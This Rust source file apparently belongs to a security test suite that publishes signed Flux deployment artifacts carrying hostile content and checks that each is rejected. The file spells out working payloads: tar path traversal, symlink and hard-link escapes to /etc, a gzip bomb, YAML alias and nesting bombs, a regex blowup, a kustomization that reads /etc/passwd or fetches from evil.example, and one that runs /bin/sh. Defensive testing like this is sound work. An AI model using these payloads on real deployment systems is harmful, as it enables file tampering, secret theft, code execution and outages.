//! Artifacts that the right workflow has signed, with content that must not get anywhere.

use flate2::Compression;
use flate2::write::GzEncoder;
use model::Tree;
use oci::{Artifact, Descriptor, Manifest, flux_artifact, media_type};
use std::collections::BTreeMap;
use std::io::Write as _;

use crate::Attempt;
use crate::siege::{DEPLOYMENT, Siege};
use crate::source::follow;

pub const ATTEMPTS: [(&str, &str, Attempt); 17] = [
    ("an absolute path", "/etc/evil", |siege| tar(siege, 1, &[entry(b'0', "/etc/evil", "", b"x")])),
    ("a path that climbs", "..", |siege| tar(siege, 2, &[entry(b'0', "../evil", "", b"x")])),
    ("a link and a file through it", "link", |siege| {
        tar(siege, 3, &[entry(b'2', "link", "/etc", b""), entry(b'0', "link/evil", "", b"x")])
    }),
    ("a hard link", "hard", |siege| tar(siege, 4, &[entry(b'1', "hard", "/etc/passwd", b"")])),
    ("a device", "device", |siege| tar(siege, 5, &[entry(b'3', "device", "", b"")])),
    ("two names that differ in case", "upper and lower case", |siege| {
        tar(siege, 6, &[entry(b'0', "overlays/dev/a.yaml", "", b"a: 1\n"), entry(b'0', "overlays/DEV/A.yaml", "", b"a: 2\n")])
    }),
    ("ten gigabytes of zeros", "unpacks to more than 250 times its size", zeros),
    ("no gzip", "unpack", |siege| layer(siege, 8, b"this is no gzip".to_vec())),
    ("a kustomization that reads outside the artifact", "../../../../etc", |siege| {
        overlay(siege, 9, "resources: [../../../../etc/passwd]\n", &[])
    }),
    ("a kustomization that reads the network", "https://", |siege| {
        overlay(siege, 10, "resources: ['https://evil.example/all.yaml']\n", &[])
    }),
    ("a kustomization that runs a program", "external plugins disabled", |siege| {
        overlay(
            siege,
            11,
            "generators: [evil.yaml]\n",
            &[(
                "evil.yaml",
                "apiVersion: v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: /bin/sh\n",
            )],
        )
    }),
    ("aliases of aliases", "line", bomb),
    ("a document that is nested too deeply", "recursion limit exceeded", |siege| {
        overlay(siege, 13, "resources: [deep.yaml]\n", &[("deep.yaml", &format!("a: {}{}\n", "[".repeat(20_000), "]".repeat(20_000)))])
    }),
    ("a pattern that is too large", "a{1000}", |siege| {
        overlay(
            siege,
            14,
            "resources: [a.yaml]\npatches:\n- target: {kind: ConfigMap, name: '((a{1000}){1000}){1000}'}\n  patch: '[{\"op\": \"add\", \"path\": \"/data\", \"value\": {}}]'\n",
            &[("a.yaml", CONFIG)],
        )
    }),
    ("malformed YAML", "a.yaml", |siege| overlay(siege, 15, "resources: [a.yaml]\n", &[("a.yaml", "a: [1\nb: 2\n")])),
    ("an unknown field", "nonsense", |siege| overlay(siege, 16, "nonsense: 1\n", &[])),
    ("a patch that is no JSON", "patch", |siege| {
        overlay(siege, 17, "resources: [a.yaml]\npatches:\n- target: {kind: ConfigMap}\n  patch: '[{\"op\": '\n", &[("a.yaml", CONFIG)])
    }),
];

const CONFIG: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: myapp}\n";

/// One entry of a tar file: kind, name, target of a link, content.
fn entry(kind: u8, name: &str, target: &str, content: &[u8]) -> Vec<u8> {
    let mut header = [0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[108..116].copy_from_slice(b"0000000\0");
    header[116..124].copy_from_slice(b"0000000\0");
    header[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
    header[136..148].copy_from_slice(b"00000000000\0");
    header[148..156].copy_from_slice(b"        ");
    header[156] = kind;
    header[157..157 + target.len()].copy_from_slice(target.as_bytes());
    header[257..265].copy_from_slice(b"ustar\x0000");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut all = header.to_vec();
    all.extend_from_slice(content);
    all.resize(all.len().next_multiple_of(512), 0);
    all
}

fn tar(siege: &mut Siege, number: u32, entries: &[Vec<u8>]) -> anyhow::Result<String> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    entries.iter().try_for_each(|entry| packed.write_all(entry))?;
    packed.write_all(&[0; 1024])?;
    layer(siege, number, packed.finish()?)
}

fn zeros(siege: &mut Siege) -> anyhow::Result<String> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    let mut header = entry(b'0', "zeros", "", b"");
    // Ten gigabytes, as the header has it in octal.
    header[124..136].copy_from_slice(b"112402762000");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    packed.write_all(&header)?;
    let zeros = vec![0; 1 << 20];
    for _ in 0..64 {
        packed.write_all(&zeros)?;
    }
    layer(siege, 7, packed.finish()?)
}

/// An artifact with this layer, signed by the right workflow, which the cluster dev is told to follow.
fn layer(siege: &mut Siege, number: u32, layer: Vec<u8>) -> anyhow::Result<String> {
    let good = flux_artifact(&Tree::default(), siege.drill.now(), "https://gitea.internal/org/deployment", "0000", &BTreeMap::new());
    let mut manifest: Manifest = serde_json::from_slice(&good.manifest)?;
    manifest.layers = vec![Descriptor::of("application/vnd.cncf.flux.content.v1.tar+gzip", &layer)];
    let config = good.blobs[0].1.clone();
    publish(siege, number, &Artifact::new(&manifest, vec![config, layer]))
}

fn publish(siege: &mut Siege, number: u32, artifact: &Artifact) -> anyhow::Result<String> {
    let tag = format!("2.0.{number}");
    siege.publish(&format!("deployments/attack:{tag}"), artifact, DEPLOYMENT, Some(DEPLOYMENT))?;
    follow(siege, &format!("content-{number}"), &tag)
}

/// An artifact whose overlay is this kustomization.
fn overlay(siege: &mut Siege, number: u32, kustomization: &str, files: &[(&str, &str)]) -> anyhow::Result<String> {
    let mut tree = Tree::default();
    tree.put("overlays/dev/kustomization.yaml", kustomization);
    for (path, content) in files {
        tree.put(format!("overlays/dev/{path}"), *content);
    }
    let artifact = flux_artifact(&tree, siege.drill.now(), "https://gitea.internal/org/deployment", "0000", &BTreeMap::new());
    anyhow::ensure!(artifact.media_type == media_type::MANIFEST, "an OCI manifest");
    publish(siege, number, &artifact)
}

fn bomb(siege: &mut Siege) -> anyhow::Result<String> {
    let mut text = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..12 {
        let before = format!("*a{}", level - 1);
        text.push_str(&format!("a{level}: &a{level} [{}]\n", vec![before; 10].join(", ")));
    }
    overlay(siege, 12, "resources: [bomb.yaml]\n", &[("bomb.yaml", &text)])
}
